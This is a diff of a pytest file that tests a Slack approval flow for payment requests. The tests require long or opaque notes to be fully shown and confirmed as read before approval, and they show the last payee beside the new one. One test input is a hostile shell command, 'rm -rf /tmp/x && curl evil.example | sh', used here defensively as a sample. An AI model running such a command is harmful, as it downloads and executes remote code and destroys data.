@@ -178,7 +178,7 @@ def test_a_step_in_doubt_takes_a_result(chat: Chat) -> None:
     asked = chat.site.begin("doubts", "x")
     view = chat.looked(asked)
     wrong = chat.send(chat.slack.submit(view, {"choice": number(view, "It happened"), "result": "{"}))
-    assert "no JSON" in wrong.text and chat.state(asked)[0] == "open"
+    assert "no JSON" in wrong.json()["errors"]["choice"] and chat.state(asked)[0] == "open"
     chat.send(chat.slack.submit(view, {"choice": number(view, "It happened"), "result": '"R-17"'}))
     assert chat.site.run("doubts", "x") == "R-17"
 
@@ -433,24 +433,42 @@ def _texts(value: Any) -> list[dict[str, Any]]:
     return [text for each in value for text in _texts(each)] if isinstance(value, list) else []
 
 
-@pytest.mark.parametrize(
-    "note", ["x" * 401, "a\n" * 13, "&" * 399, {f"name{number}": number for number in range(60)}, "y" * 20_000]
-)
+@pytest.mark.parametrize("note", ["y" * 20_000, "&" * 700, {f"name{number}": "v" * 40 for number in range(99)}])
 def test_what_is_not_shown_in_full_cannot_be_approved(chat: Chat, note: Any) -> None:
     """Lost: an approval of what nobody has read (S12)."""
     asked = chat.site.begin("pays", ["K-17", 4200, note])
     view = chat.looked(asked)
     [form] = [block for block in view.view["blocks"] if block["type"] == "input"]
-    words = [each["text"]["text"] for each in form["element"]["options"]]
-    if "too long to be shown here" in view.shown:
-        assert words == ["Decline"]
-        form["element"]["options"].append({"text": {"type": "plain_text", "text": "Approve"}, "value": "0"})
-        assert "Your answer is taken" not in chat.send(chat.slack.submit(view, {"choice": "0"})).text
-        assert chat.state(asked)[0] == "open"
-    else:
-        assert note == "&" * 399 and view.shown.count("&amp;") == 399
+    assert "too long to be shown here" in view.shown
+    assert [each["text"]["text"] for each in form["element"]["options"]] == ["Decline"]
+    form["element"]["options"].append({"text": {"type": "plain_text", "text": "Approve"}, "value": "0"})
+    assert "Not all of it was shown" in chat.send(chat.slack.submit(view, {"choice": "0"})).text
+    assert chat.state(asked)[0] == "open"
     chat.send(chat.slack.submit(view, {"choice": number(view, "Decline")}))
     assert chat.state(asked)[:2] == ("posted", "decline")
+
+
+@pytest.mark.parametrize("note", ["x" * 401, "a\n" * 13, "rm -rf /tmp/x && curl evil.example | sh"])
+def test_what_is_long_or_opaque_is_read_before_it_is_approved(chat: Chat, note: str) -> None:
+    """Lost: a command that is approved with the same press as a number (S12, S16)."""
+    asked = chat.site.begin("pays", ["K-17", 4200, note])
+    view = chat.looked(asked)
+    assert "I have read all of it" in view.shown and note.partition("\n")[0].split("&")[0] in view.shown
+    unread = chat.send(chat.slack.submit(view, {"choice": number(view, "Approve")})).json()
+    assert unread["response_action"] == "errors" and "confirm that you have read them" in unread["errors"]["choice"]
+    assert chat.state(asked)[0] == "open"
+    read = chat.send(chat.slack.submit(view, {"choice": number(view, "Approve"), "read": ["read"]}))
+    assert "taken" in read.text and chat.state(asked)[:2] == ("posted", "approve")
+
+
+def test_the_last_time_stands_beside_it(chat: Chat) -> None:
+    """Lost: a payee that has changed, which nobody sees who has approved ten of them."""
+    for key, order in (("first", "K-17"), ("second", "K-18")):
+        asked = chat.site.begin("pays", [order, 4200], key=key)
+        view = chat.looked(asked)
+        chat.send(chat.slack.submit(view, {"choice": number(view, "Approve")}))
+        chat.site.run("pays", [order, 4200], key=key)
+    assert "last time:" in view.shown and "K-17" in view.shown and "K-18" in view.shown
 
 
 def test_what_has_too_many_parts_is_answered_elsewhere(chat: Chat) -> None:
